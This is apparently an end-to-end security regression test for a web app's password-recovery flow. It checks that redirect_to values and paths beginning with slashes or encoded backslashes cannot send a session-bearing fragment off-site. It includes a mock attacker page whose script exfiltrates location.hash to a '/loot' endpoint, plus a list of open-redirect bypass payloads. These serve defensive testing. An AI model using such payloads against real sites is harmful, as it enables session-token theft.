/**
 * No redirect of the site or its mails leaves the site's origin (issue 22,
 * finding 1), end to end in Chromium: a stranger asks for a recovery mail to
 * the admin with a `redirect_to` on the site's origin whose path begins with
 * `//`; when the admin opens the genuine mail, her session must stay on the
 * site. Before the fix the site's trailing-slash 301 sent her browser, with the
 * tokens in the fragment, to the stranger's host.
 *
 * Its own `npm start` instance: the recovery mails here would otherwise use up
 * the shared instance's hourly mail budget ([auth.rate_limit] email_sent).
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { verifyLinkIn } from '../../server/auth/mailer.ts';
import { readOutbox, waitForOutbox } from '../../server/mail/outbox-reader.ts';
import { createAdmin, removeDataDir, startApp, type AppServer } from './support/app-server';
import { E2E, runId } from './support/browser';

// Two addresses: one address gets one mail per [auth.email] max_frequency.
const admin = { email: `redirecionada-${runId}@example.com`, password: `senha-${runId}-Redirecionada` };
const editor = { email: `editora-${runId}@example.com`, password: `senha-${runId}-Editora` };

let app: AppServer;
let e2e: E2E;
let attacker: Server;
let attackerOrigin = '';
/** Every request the stranger's host received (path and the fragment its page could read). */
const stolen: string[] = [];

beforeAll(async () => {
  attacker = createServer((req, res) => {
    stolen.push(req.url ?? '');
    // What a real attacker serves: a page that sends the fragment home.
    res.writeHead(200, { 'Content-Type': 'text/html' });
    res.end(`<script>fetch('/loot?' + encodeURIComponent(location.hash))</script>`);
  });
  await new Promise<void>((ok) => attacker.listen(0, '127.0.0.1', ok));
  // Another port is another origin, as another host would be.
  attackerOrigin = `127.0.0.1:${(attacker.address() as AddressInfo).port}`;

  app = await startApp({ ownSiteUrl: true });
  for (const who of [admin, editor]) {
    const made = await createAdmin(app, who.email, who.password);
    if (made.status !== 0) throw new Error(made.output);
  }
  e2e = await E2E.open(app.url, 'redirects');
});

afterAll(async () => {
  await e2e?.close();
  await app?.stop();
  if (app) removeDataDir(app.dataDir);
  await new Promise((ok) => attacker?.close(ok));
});

async function anonKey(): Promise<string> {
  const html = await (await fetch(`${app.url}/pt`)).text();
  return /<meta\s+name="supabase-anon-key"\s+content="([^"]+)"/.exec(html)![1]!;
}

/** What a stranger can do with the anon key alone: ask for her recovery mail, naming where its link leads. */
async function strangerAsksForRecovery(email: string, redirectTo: string): Promise<string> {
  const before = (await readOutbox(app.dataDir, email)).length;
  const res = await fetch(`${app.url}/auth/v1/recover?redirect_to=${encodeURIComponent(redirectTo)}`, {
    method: 'POST',
    headers: { apikey: await anonKey(), 'Content-Type': 'application/json' },
    body: JSON.stringify({ email }),
  });
  expect(res.status).toBe(200);
  // The server's mail worker sends it a moment after the answer.
  const mails = await waitForOutbox(app.dataDir, email, before + 1);
  expect(mails.length).toBe(before + 1);
  return verifyLinkIn(mails.at(-1)!.text)!;
}

describe('redirects stay on the site', () => {
  const hostile = () => `${app.url}//x//${attackerOrigin}/`;

  it('a recovery mail asked for with redirect_to=SITE//x//attacker/ leads her back to the site, session and all', async () => {
    const link = await strangerAsksForRecovery(admin.email, hostile());
    expect(new URL(link).searchParams.get('redirect_to')).toBe(app.url);

    const page = await e2e.newPage();
    await page.goto(link);
    await page.waitForLoadState('networkidle');
    expect(new URL(page.url()).origin).toBe(app.url);
    expect(stolen).toEqual([]);
    await e2e.screenshot(page, 'recovery-link-on-site');
  });

  it('a mail link whose redirect_to was changed afterwards is checked again when it is opened', async () => {
    const link = new URL(await strangerAsksForRecovery(editor.email, `${app.url}/auth`));
    link.searchParams.set('redirect_to', hostile());
    const page = await e2e.newPage();
    await page.goto(link.toString());
    await page.waitForLoadState('networkidle');
    expect(new URL(page.url()).origin).toBe(app.url);
    expect(stolen).toEqual([]);
  });

  it('a page address that begins with slashes or backslashes is redirected within the site, fragment and all', async () => {
    const page = await e2e.newPage();
    for (const path of [`//x//${attackerOrigin}/`, `///${attackerOrigin}/`, `/%2F%2F${attackerOrigin}/`, `/%5C${attackerOrigin}/`]) {
      await page.goto(`${app.url}${path}#access_token=secret`);
      await page.waitForLoadState('networkidle');
      expect(new URL(page.url()).origin, path).toBe(app.url);
    }
    expect(stolen).toEqual([]);
    // Unknown paths end on the 404 page, which logs the path it was asked for (spec).
    e2e.expectNoConsoleErrors([/404 Error: User attempted to access non-existent route/, /404 \(Not Found\)/]);
  });
});
